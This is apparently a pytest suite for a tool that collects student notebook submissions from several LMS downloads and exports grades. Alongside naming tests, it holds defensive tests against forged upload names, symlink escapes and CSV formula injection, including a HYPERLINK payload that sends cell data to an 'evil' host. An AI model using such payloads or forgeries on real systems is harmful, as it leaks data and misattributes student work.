"""``labs collect`` on downloads named as each LMS really names them, and on names students chose.

The naming rules come from the LMSs' own code (Moodle's ``mod/assign/classes/downloader.php``
and its feedback importer ``importziplib.php``; Canvas's submission zipper; Blackboard's
"Download assignment"): Moodle 3.x folders end ``_assignsubmission_file_/``, 4.1 and later
``_assignsubmission_file/``, flat downloads prefix every file; Moodle writes ``_`` in a name as
a space; Canvas keeps Unicode letters in its squashed name and marks late ones ``_late_``;
Blackboard user names may hold ``_``. A student controls only the name of the file they
upload, which the LMS puts after its own part: that part alone says who and when.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
from pathlib import Path

import nbformat
import pytest
from lms_support import LAB1, LAB2, REPO, graded_term, release_text, write_zip

from transformer_lab.grading.export import export_grades, neutralise
from transformer_lab.grading.lms import Roster, collect

T1 = (2026, 10, 1, 12, 0, 0)
T2 = (2026, 10, 2, 9, 30, 0)
#: id, first, last, Blackboard user name (lms_id in the Blackboard roster), Canvas user id.
CLASS = [
    ("a01", "Ada", "Lovelace", "ada_l", "50001"),
    ("a02", "José", "Núñez", "jose_nunez_2", "50002"),
    ("a03", "伟", "张", "zhang_w", "50003"),
    ("a04", "Seán", "O'Brien", "sobrien", "50004"),
    ("a05", "Mallory", "Evil", "mallory", "50005"),
    ("a06", "Grace", "Hopper", "ghopper", "50006"),  # enrolled, hands in nothing
]


def roster(path: Path, column: int | None = None, extra: list[tuple[str, ...]] = ()) -> Roster:
    """The class as a roster CSV; ``lms_id`` from ``CLASS``'s ``column`` (3 or 4), or none."""
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "first_name", "last_name", "email", "lms_id"])
        for row in [*CLASS, *extra]:
            sid, first, last = row[:3]
            lms_id = row[column] if column is not None and len(row) > column else ""
            writer.writerow([sid, first, last, f"{sid}@uni.example", lms_id])
    return Roster.read(path)


def name(sid: str) -> str:
    row = next(r for r in CLASS if r[0] == sid)
    return f"{row[1]} {row[2]}"


def canvas(sid: str) -> str:
    """Canvas's squashed sortable name: "Núñez, José" -> ``núñezjosé`` (letters of any script)."""
    row = next(r for r in CLASS if r[0] == sid)
    return "".join(c for c in f"{row[2]}{row[1]}".lower() if c.isalnum())


def no_metadata(lab: str) -> str:
    """A Colab copy that lost every cell's nbgrader metadata."""
    nb = nbformat.read(str(REPO / "labs" / lab / f"{lab}.ipynb"), as_version=4)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nbformat.writes(nb)


HANDED_IN = ("a01", "a02", "a03", "a04", "a05")


def moodle_names(layout: str) -> list[str]:
    """Lab 01 from Moodle in one of its layouts (participant numbers 901...)."""
    names = []
    for i, sid in enumerate(HANDED_IN, start=1):
        prefix = f"{name(sid)}_90{i}_assignsubmission_file"
        names.append(
            {
                "4.1 folders": f"{prefix}/{LAB1}.ipynb",
                "4.1 subfolder": f"{prefix}/work/{LAB1}.ipynb",
                "3.x folders": f"{prefix}_/{LAB1}.ipynb",
                "flat": f"{prefix}_{LAB1}.ipynb",
            }[layout]
        )
    return names


@pytest.mark.parametrize("layout", ["4.1 folders", "4.1 subfolder", "3.x folders", "flat"])
def test_moodle_every_layout_places_everyone(tmp_path: Path, layout: str) -> None:
    members = [(n, release_text(LAB1), T1) for n in moodle_names(layout)]
    archive = write_zip(tmp_path / "moodle.zip", members)
    course = tmp_path / "course"
    done = collect(
        archive, lms="moodle", lab=LAB1, course=course, repo=REPO, roster=roster(tmp_path / "r.csv")
    )
    placed = {f.student: f for f in done.placed}
    assert sorted(placed) == list(HANDED_IN), done.table()
    assert placed["a03"].lms_id == "903" and placed["a02"].full_name == "José Núñez"
    for sid in HANDED_IN:
        assert (course / "submitted" / sid / LAB1 / f"{LAB1}.ipynb").is_file()
    assert not done.skipped


def test_canvas_unicode_late_and_reuploads(tmp_path: Path) -> None:
    lab = release_text(LAB2)
    members = [
        (f"{canvas('a01')}_50001_7001_{LAB2}.ipynb", lab, T1),
        (f"{canvas('a02')}_late_50002_7002_{LAB2}-1.ipynb", lab, T2),  # late, re-uploaded
        (f"{canvas('a03')}_50003_7003_{LAB2}-2.ipynb", lab, T1),  # Chinese name
        (f"{canvas('a04')}_50004_7004_{LAB2}.ipynb", lab, T1),  # apostrophe dropped
        (f"{canvas('a05')}_50005_7005_{LAB2}.ipynb", lab, T1),
    ]
    assert members[1][0].startswith("núñezjosé_late_") and members[2][0].startswith("张伟_")
    archive = write_zip(tmp_path / "submissions.zip", members)
    course = tmp_path / "course"
    done = collect(
        archive, lms="canvas", lab=LAB2, course=course, repo=REPO,
        roster=roster(tmp_path / "r.csv", column=4),
    )  # fmt: skip
    placed = {f.student: f for f in done.placed}
    assert sorted(placed) == list(HANDED_IN), done.table()
    assert placed["a02"].late and placed["a02"].lms_id == "50002"
    # Without lms_id in the roster, Canvas's names still place everyone (Unicode kept).
    done = collect(
        archive, lms="canvas", lab=LAB2, course=tmp_path / "c2", repo=REPO,
        roster=roster(tmp_path / "r2.csv"),
    )  # fmt: skip
    assert sorted(f.student for f in done.placed) == list(HANDED_IN), done.table()


def test_blackboard_user_names_with_underscores_by_lms_id(tmp_path: Path) -> None:
    users = {"a01": "ada_l", "a02": "jose_nunez_2", "a03": "zhang_w", "a04": "sobrien"}
    members = []
    for sid, user in users.items():
        members += [
            (f"Lab_1 Positional_{user}_attempt_2026-10-01-09-00-00_{LAB1}.ipynb", "", T1),
            (f"Lab_1 Positional_{user}_attempt_2026-10-01-09-00-00.txt", f"Name: {sid}", T1),
        ]
    members = [(n, release_text(LAB1) if n.endswith("ipynb") else d, t) for n, d, t in members]
    archive = write_zip(tmp_path / "bb.zip", members)
    course = tmp_path / "course"
    done = collect(
        archive, lms="blackboard", lab=LAB1, course=course, repo=REPO,
        roster=roster(tmp_path / "r.csv", column=3),
    )  # fmt: skip
    placed = {f.student: f for f in done.placed}
    assert sorted(placed) == sorted(users), done.table()
    assert placed["a02"].lms_id == "jose_nunez_2"
    assert not done.skipped, "receipts are not files left out"
    # Without a roster, the assignment name all entries share splits the user name off.
    done = collect(archive, lms="blackboard", lab=LAB1, course=tmp_path / "c2", repo=REPO)
    assert sorted(f.student for f in done.placed) == ["ada_l", "jose_nunez_2", "sobrien", "zhang_w"]


def test_classroom_names(tmp_path: Path) -> None:
    drive = tmp_path / "Lab 1"
    drive.mkdir()
    for sid in ("a01", "a02", "a03"):
        (drive / f"{name(sid)} - {LAB1}.ipynb").write_text(release_text(LAB1))
    (drive / f"{LAB1} - {name('a04')}.ipynb").write_text(release_text(LAB1))
    done = collect(
        drive, lms="classroom", lab=LAB1, course=tmp_path / "c", repo=REPO,
        roster=roster(tmp_path / "r.csv"),
    )  # fmt: skip
    assert sorted(f.student for f in done.placed) == ["a01", "a02", "a03", "a04"], done.table()


# --------------------------------------------------------------------------------------
# Names students chose (issue 41, class 6)
# --------------------------------------------------------------------------------------


def test_an_upload_named_like_another_students_entry_is_not_theirs(tmp_path: Path) -> None:
    """Mallory (a05) uploads files named as Ada's (a01) LMS entries: they stay Mallory's."""
    lab = release_text(LAB1)
    r = roster(tmp_path / "r.csv")
    cases = {
        "moodle": [  # a folder entry inside Mallory's folder; a flat one after her prefix
            (
                f"Mallory Evil_905_assignsubmission_file/Ada Lovelace_901_assignsubmission_file_"
                f"{LAB1}.ipynb",
                lab,
                T2,
            ),
            (f"Ada Lovelace_901_assignsubmission_file/{LAB1}.ipynb", lab, T1),
        ],
        "moodle-flat": [
            (
                f"Mallory Evil_905_assignsubmission_file_Ada Lovelace_901_assignsubmission_file_"
                f"{LAB1}.ipynb",
                lab,
                T2,
            ),
        ],
        "canvas": [(f"evilmallory_50005_7005_lovelaceada_50001_7001_{LAB1}.ipynb", lab, T2)],
    }
    for key, members in cases.items():
        archive = write_zip(tmp_path / f"{key}.zip", members)
        course = tmp_path / key
        lms = key.split("-")[0]
        done = collect(archive, lms=lms, lab=LAB1, course=course, repo=REPO, roster=r)
        owners = {f.file: f.student for f in done.placed}
        assert owners[members[0][0]] == "a05", (key, done.table())
        if len(members) > 1:
            assert owners[members[1][0]] == "a01"


def test_blackboard_an_earlier_attempt_time_in_a_file_name_does_not_backdate(
    tmp_path: Path,
) -> None:
    late, forged = "2026-10-05-10-00-00", "2026-09-30-10-00-00"
    forged_name = f"Lab 1_ada_l_attempt_{forged}_{LAB1}.ipynb"
    members = [
        (f"Lab 1_mallory_attempt_{late}_{forged_name}", release_text(LAB1), T1),
        (f"Lab 1_mallory_attempt_{late}.txt", "receipt", T1),
        (f"Lab 1_ada_l_attempt_2026-10-01-09-00-00_{LAB1}.ipynb", release_text(LAB1), T1),
    ]
    archive = write_zip(tmp_path / "bb.zip", members)
    course = tmp_path / "course"
    done = collect(
        archive, lms="blackboard", lab=LAB1, course=course, repo=REPO,
        roster=roster(tmp_path / "r.csv", column=3),
    )  # fmt: skip
    placed = {f.student: f for f in done.placed}
    assert sorted(placed) == ["a01", "a05"], done.table()
    assert placed["a05"].submitted == "2026-10-05T10:00:00+00:00"
    stamp = (course / "submitted" / "a05" / LAB1 / "timestamp.txt").read_text().strip()
    assert stamp == "2026-10-05 10:00:00"
    assert placed["a01"].submitted == "2026-10-01T09:00:00+00:00"


def test_classroom_two_files_naming_one_student_place_neither(tmp_path: Path) -> None:
    drive = tmp_path / "Lab 1"
    drive.mkdir()
    ada = drive / f"Ada Lovelace - {LAB1}.ipynb"
    forged = drive / "Ada Lovelace - my lab.ipynb"  # Mallory's upload, named after Ada
    for path, when in ((ada, "2026-10-01 08:00"), (forged, "2026-10-02 08:00")):
        path.write_text(release_text(LAB1))
        stamp = dt.datetime.fromisoformat(when).replace(tzinfo=dt.timezone.utc).timestamp()
        os.utime(path, (stamp, stamp))
    course = tmp_path / "course"
    done = collect(
        drive, lms="classroom", lab=LAB1, course=course, repo=REPO,
        roster=roster(tmp_path / "r.csv"),
    )  # fmt: skip
    assert not done.placed and not (course / "submitted" / "a01").exists()
    for item in done.skipped:
        assert item.student == "a01" and item.kind == "ambiguous"
        assert "the download does not say who uploaded which" in item.reason
    assert "ambiguous: two notebooks" in done.table()


def test_two_students_of_one_name_are_ambiguous_not_unknown(tmp_path: Path) -> None:
    twin = ("a07", "Ada", "Lovelace", "ada_2", "50007")
    r = roster(tmp_path / "r.csv", extra=[twin])
    archive = write_zip(
        tmp_path / "m.zip",
        [(f"Ada Lovelace_901_assignsubmission_file/{LAB1}.ipynb", release_text(LAB1), T1)],
    )
    done = collect(archive, lms="moodle", lab=LAB1, course=tmp_path / "c", repo=REPO, roster=r)
    (item,) = done.skipped
    assert item.kind == "ambiguous"
    assert item.reason == (
        "ambiguous: 2 roster students are called 'Ada Lovelace' (a01, a07): "
        "add their lms_id to the roster"
    )


def test_a_symlink_in_an_unpacked_folder_is_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "private.ipynb"
    outside.write_text(release_text(LAB1))
    folder = tmp_path / "download"
    mine = folder / "Mallory Evil_905_assignsubmission_file"
    mine.mkdir(parents=True)
    (mine / f"{LAB1}.ipynb").symlink_to(outside)
    (folder / "Ada Lovelace_901_assignsubmission_file").symlink_to(tmp_path)
    course = tmp_path / "course"
    done = collect(
        folder, lms="moodle", lab=LAB1, course=course, repo=REPO,
        roster=roster(tmp_path / "r.csv"),
    )  # fmt: skip
    assert not done.placed and not (course / "submitted").exists()
    reasons = {f.file: f.reason for f in done.skipped}
    assert reasons == {
        "Ada Lovelace_901_assignsubmission_file": "a symbolic link: not followed (hand in the "
        "file itself)",
        f"Mallory Evil_905_assignsubmission_file/{LAB1}.ipynb": "a symbolic link: not followed "
        "(hand in the file itself)",
    }


def test_a_wrong_lab_colab_copy_without_metadata_is_caught_at_collect(tmp_path: Path) -> None:
    archive = write_zip(
        tmp_path / "m.zip",
        [(f"Ada Lovelace_901_assignsubmission_file/{LAB1}.ipynb", no_metadata(LAB2), T1)],
    )
    done = collect(
        archive, lms="moodle", lab=LAB1, course=tmp_path / "c", repo=REPO,
        roster=roster(tmp_path / "r.csv"),
    )  # fmt: skip
    (item,) = done.files
    assert item.action == "skipped" and item.kind == "wrong lab"
    assert item.reason == f"a notebook of lab {LAB2}, not of {LAB1}: collect it with --lab"


def test_export_csv_never_writes_a_formula(tmp_path: Path) -> None:
    assert neutralise('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert [neutralise(v) for v in ("+1+2", "-2+3", "@SUM(A1)", "\tx")] == [
        "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx",
    ]  # fmt: skip
    assert [neutralise(v) for v in ("-1.5", "-", "12", "Jane")] == ["-1.5", "-", "12", "Jane"]
    course = tmp_path / "course"
    course.mkdir()
    graded_term(course, students=["s01"])
    path = tmp_path / "roster.csv"
    path.write_text(
        "id,first_name,last_name,email,lms_id\n"
        's01,"=HYPERLINK(""http://evil/""&A1)",@Lovelace,+s01@uni.example,901\n',
        encoding="utf-8",
    )
    out = tmp_path / "out"
    export_grades(course, "moodle", out, labs=[LAB1], roster=Roster.read(path))
    export_grades(course, "canvas", out, roster=Roster.read(path))
    for sheet in out.glob("*.csv"):
        for row in csv.reader(sheet.open(encoding="utf-8")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@")), (sheet.name, cell)
    text = (out / f"moodle-{LAB1}-grades.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "'+s01@uni.example" in text
